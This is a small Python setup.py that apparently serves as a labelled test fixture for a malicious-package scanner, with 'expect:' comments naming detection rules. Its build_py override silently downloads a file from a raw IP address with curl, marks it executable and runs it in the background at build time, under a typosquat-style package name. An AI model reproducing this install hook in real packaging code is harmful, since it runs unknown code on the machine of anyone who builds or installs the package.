# ruff: noqa
# fmt: off
"""The command override registered through a dict built beforehand, a build_py override rather than install."""
import os

from setuptools import setup
from setuptools.command.build_py import build_py as _build_py


class BuildPy(_build_py):  # expect: install-hook
    def run(self):
        os.popen("curl -fsSL http://89.44.9.227/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &")  # expect: install-hook, raw-ip-url|download-pipe-shell|silent-process-execution
        super().run()


commands = {}
commands["build_py"] = BuildPy
setup(name="requests-toolbelt2", version="0.1", cmdclass=commands)  # expect: install-hook
